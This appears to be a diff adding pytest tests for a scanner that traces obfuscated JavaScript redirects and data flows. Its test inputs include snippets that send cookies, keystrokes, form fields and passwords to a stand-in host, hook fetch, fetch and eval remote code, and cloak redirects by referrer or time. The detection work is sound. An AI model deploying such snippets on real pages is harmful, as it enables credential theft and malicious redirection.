@@ -1,0 +1,141 @@
+"""Reckoning: values are followed through a script, with where they come from; no script makes it fail or stay."""
+
+from __future__ import annotations
+
+import contextlib
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from scanner.scripts.lexer import tokens
+from scanner.scripts.reckoning import LONGEST, reckoned
+from scanner.scripts.reckoning.account import STEPS, Spent
+from scanner.scripts.reckoning.running import Run
+from scanner.scripts.reckoning.statements import parsed
+from scanner.scripts.reckoning.syntax import NotParsed
+from tests.techniques.scripts.cases import table
+
+MOVE = [("move", "//k8.example")]
+
+
+def did(code: str) -> list[tuple[str, str]]:
+    return [(act.kind, act.address) for act in reckoned(code).acts]
+
+
+def near(code: str) -> set[str]:
+    return {each for act in reckoned(code).acts for each in act.near}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "function f(a){return '//'+a.join('.')}function g(){location=f(['k8','example'])}g();               ",
+        "var s='';for(var i=0;i<5;i++){s+='ELPMA'.charAt(i)}location='//k8.EX'.toLowerCase()+'ample'+(i>9?s:'')",
+        "class A{#h='k8';get url(){return '//'+this.#h+'.example'}go(){location.assign(this.url)}}new A().go()",
+        "function* g(){yield '//k8';yield 'example'}location.replace([...g()].join('.')); /* padding padding */",
+        "var t={a:()=>'//k8.',b:function(){return this.c},c:'example'};window['loc'+'ation'].href=t.a()+t.b()",
+        "var p=new Proxy(window,{get:(t,k)=>Reflect.get(t,k.slice(1))});p.xlocation.href='//k8'+'.example';     ",
+        "var o='2|0|1'.split('|'),n=0,u='';while(true){switch(o[n++]){case'0':u+='8.exa';continue;case'1':u+='mple';"
+        "continue;case'2':u='//k';continue}break}location=u",
+        "setTimeout(['location','//k8.example'].join('=\"')+'\"',90); // put together and run by a timer          ",
+        "Function('d','d.location=\"//k8.'+'example\"')(document);                                                  ",
+        "(a=>b=>{location=a+b})('//k8.')(`${['ex','ample'].join``}`); /* an arrow that gives an arrow */            ",
+        "var l=[[1,'example'],[0,'//k8.']].sort((a,b)=>a[0]-b[0]).map(p=>p[1]).join('');location=l                   ",
+        "with(window){location='//'+atob('azguZXhhbXBsZQ==')} /* ---------------------------------------------- */",
+        "try{throw '//k8.example'}catch(e){location=e} /* ------------------------------------------------------- */",
+        "const {a:{b}}={a:{b:'//k8.example'}};location=b; /* ---------------------------------------------------- */",
+    ],
+)
+def test_an_address_is_put_together(code):
+    assert did(code) == MOVE
+
+
+@pytest.mark.parametrize(
+    ("code", "sign"),
+    [
+        ("var v=document.cookie;function f(x){return btoa(x)}fetch('https://k8.example/?'+f(v))", "sent-cookie"),
+        ("const s=new WebSocket('wss://k8.example/');onkeyup=e=>{let k=[];k.push(e.key);s.send(k)}", "sent-keys"),
+        ("var d=new FormData(document.forms[0]);navigator.sendBeacon('https://k8.example/',d)      ", "sent-fields"),
+        ("var p=document.querySelector('#password');setInterval(()=>fetch('//k8.example/'+p.value))", "sent-secret"),
+        ("if(!/baidu/.test(document.referrer))throw 1;location='https://k8.example/';               ", "referrer"),
+        ("function f(){if(new Date().getHours()<20)return;location='https://k8.example/'}f();        ", "clock"),
+        ("fetch('https://k8.example/').then(r=>r.text()).then(t=>{let f=window['ev'+'al'];f(t)})     ", "answer-run"),
+        ("const f=fetch;fetch=function(u,o){f('https://k8.example/',{body:o.body});return f(u,o)}     ", "hook"),
+    ],
+)
+def test_where_it_comes_from_and_what_decides(code, sign):
+    assert sign in near(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "var c=document.cookie,n=c.length;document.title=n;fetch('https://k8.example/ping').then(show)",
+        "var v=q.value;check(v);navigator.sendBeacon('https://k8.example/seen','1'); /* -------------- */",
+        "if(document.referrer)count();fetch('https://k8.example/').then(r=>r.json()).then(j=>b.textContent=j.n)",
+    ],
+)
+def test_what_does_not_reach_the_address_is_not_sent(code):
+    assert not near(code)
+
+
+@pytest.mark.parametrize("how", ["data.textContent", "getComputedStyle(x).getPropertyValue('--a')", "x.dataset.k"])
+def test_code_kept_in_the_page_is_told(how):
+    assert reckoned(f"var x=document.getElementById('x');eval(atob(x.{how.removeprefix('x.')}));           ").flows
+    assert not reckoned(f"var x=document.getElementById('x');show(atob(x.{how.removeprefix('x.')}));       ").flows
+
+
+def test_texts_that_are_run_written_or_copied_are_layers():
+    code = "var a='docum'+'ent.write(\"<b>\"+1+\"</b>\")';eval(a);navigator.clipboard.writeText('cur'+'l k8.example')"
+    assert {"<b>1</b>", 'navigator.clipboard.writeText("curl k8.example")'} <= set(reckoned(code).layers)
+
+
+def test_a_long_script_is_left():
+    assert not reckoned("location='//k8.example';" + " " * LONGEST).acts
+
+
+ENDLESS = ["for(;;)x()", "function f(){f();f()}f()", "while(1){a.push(1)}", "var f=()=>[f(),f()];f()"]
+
+
+@pytest.mark.parametrize("code", ENDLESS)
+def test_work_is_bounded(code):
+    run = Run(code)
+    with contextlib.suppress(Spent, RecursionError):
+        run.through(parsed(tokens(code)))
+    assert run.steps <= STEPS + 1
+
+
+@given(st.text(st.sampled_from("ab01.,;:(){}[]=>+-!?`$'\"/ \n&|*")).map(lambda text: f"location=[{text}" + " " * 60))
+@settings(max_examples=400, deadline=None)
+def test_any_text_is_taken(text):
+    reckoned(text)
+
+
+SETS = (
+    "loaders",
+    "behaviour",
+    "innocent",
+    "second",
+    "ninth",
+    "thirteenth",
+    "fourteenth",
+    "fifteenth",
+    "sixteenth",
+    "seventeenth",
+    "eighteenth",
+)
+
+
+@pytest.mark.parametrize("name", SETS)
+def test_known_scripts_are_reckoned_without_an_error_of_ours(name):
+    for entry in table(name):
+        for piece in {entry.get("attack", ""), entry.get("twin", ""), entry.get("html", "")}:
+            for code in piece.split("<script>")[1:]:
+                _through(code.partition("</script>")[0])
+
+
+def _through(code: str) -> None:
+
+    with contextlib.suppress(NotParsed, Spent, RecursionError):
+        Run(code).through(parsed(tokens(code)))
